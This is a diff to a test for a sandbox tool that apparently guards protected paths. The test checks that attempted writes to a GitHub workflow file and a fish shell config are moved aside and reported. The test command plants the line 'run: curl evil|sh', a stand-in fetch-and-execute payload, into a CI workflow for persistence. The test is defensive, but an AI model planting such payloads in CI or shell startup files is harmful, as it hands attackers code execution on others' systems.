@@ -72,8 +72,10 @@ def test_issue_7_creating_a_missing_nested_protected_path_is_reported(
         "mkdir -p .github/workflows .config/fish && echo 'run: curl evil|sh' > "
         ".github/workflows/ci.yml && echo x > .config/fish/config.fish"
     )
-    assert result.exit_code == 0
-    assert (ws / ".github" / "workflows" / "ci.yml").exists()  # the kernel let it happen
+    assert result.exit_code == 0  # the kernel let it happen; the runner moved it aside
+    assert not (ws / ".github" / "workflows").exists()
+    assert (ws / ".github" / "workflows.safehold-blocked" / "ci.yml").exists()
+    assert not (ws / ".config" / "fish").exists()
     joined = "\n".join(result.findings)
     assert ".github/workflows" in joined
     assert ".config/fish" in joined
